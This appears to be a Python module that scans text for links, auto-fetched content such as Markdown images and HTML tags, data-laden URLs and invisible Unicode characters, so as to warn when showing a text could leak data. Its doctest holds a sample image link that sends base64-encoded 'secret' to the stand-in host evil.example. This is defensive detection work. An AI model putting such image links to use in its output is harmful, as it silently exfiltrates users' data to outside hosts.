r"""What a text reaches when it is shown: links, and what a program fetches by itself.

A picture in Markdown or HTML is fetched by whoever shows the text, without a click, so its address can carry data out; chat services also
fetch every link to show what is behind it ("unfurling").  Nothing here decides that a text is safe: it names hosts, and says why a text is
not plain.

>>> found = links("see https://docs.example.com/x, ![](https://evil.example/?d=c2VjcmV0) and www.other.example")
>>> found.hosts, found.fetched
(('docs.example.com', 'evil.example', 'www.other.example'), True)
>>> links("a plain text with 3.14 and e.g. this").hosts
()
"""

from __future__ import annotations

import re
import unicodedata
from typing import Final, NamedTuple

MOST: Final = 50_000
MANY: Final = 20  # so many links may each carry a letter
_URL: Final = re.compile(
    r"(?:\b[a-z][a-z0-9+.-]{0,20}:)?//([^\s/?#<>\"'()\[\]|\\]{1,253})([^\s<>\"')\]|]{0,4096})|\b((?:[a-z0-9-]{1,63}\.){1,20}[a-z]{2,24})([/?][^\s<>\"')\]|]{0,4096})|\b(www\.[a-z0-9.-]{1,250})",
    re.IGNORECASE,
)
_FETCHED: Final = re.compile(
    r"!\[|<\s*(?:img|image|picture|video|audio|source|iframe|embed|object|link|script|style|svg|base|meta|input|body|table|td)\b"
    r"|\bsrc(?:set)?\s*=|\burl\s*\(|@import\b",
    re.IGNORECASE,
)
# format characters (category Cf) and those that count as letters or marks and show as nothing; emoji are joined and coloured by a few of them
_SOFT: Final = "\u200c\u200d\ufe00-\ufe0f"
_HARD: Final = (
    "\u00ad\u034f\u0600-\u0605\u061c\u06dd\u070f\u0890\u0891\u08e2\u115f\u1160\u17b4\u17b5\u180b-\u180f\u200b\u200e\u200f\u202a-\u202e\u2060-\u206f\u3164\ufeff\uffa0"
    "\ufff9-\ufffb\U000110bd\U000110cd\U00013430-\U0001343f\U0001bca0-\U0001bca3\U0001d173-\U0001d17a\U000e0000-\U000e0fff"
)
_HIDDEN: Final = re.compile(f"[{_HARD}]")
_UNSEEN: Final = re.compile(f"[{_HARD}{_SOFT}]")
_LONG: Final = re.compile(r"[A-Za-z0-9+/=_%-]{40,}")


class Links(NamedTuple):
    """What was found.

    hosts: of all links, in order.  fetched: something is fetched when the text is shown.  loaded: a link carries much besides its place.  hidden:
    the text holds characters that nobody sees.
    """

    hosts: tuple[str, ...]
    fetched: bool
    loaded: bool
    hidden: bool


def links(text: str) -> Links:
    """What is in the first 50,000 characters; a longer text counts as fetching, because its rest was not looked at."""
    seen = plain(text).replace("\\", "/").replace("\u3002", ".")  # as browsers read them
    hosts: dict[str, None] = {}
    loaded, count = False, 0
    for found in _URL.finditer(seen):
        count += 1
        host, rest = found[1] or found[3] or found[5], found[2] or found[4] or ""
        hosts[host.rpartition("@")[2].lower()[:80].rstrip(".,;:!")] = None
        loaded = loaded or len(host) > 60 or ("?" in rest and len(rest) > 60) or _LONG.search(rest) is not None
    unseen = len(text) > MOST or len(seen) >= 2 * MOST
    return Links(tuple(hosts), _FETCHED.search(seen) is not None or unseen, loaded or count > MANY, _HIDDEN.search(text) is not None)


def plain(text: str) -> str:
    """The text as a program that is generous with look-alikes may read it: compatibility forms folded (NFKC), invisible characters dropped; cut."""
    if text.isascii():
        return text[:MOST]
    return _UNSEEN.sub("", unicodedata.normalize("NFKC", text[:MOST])[: 2 * MOST])
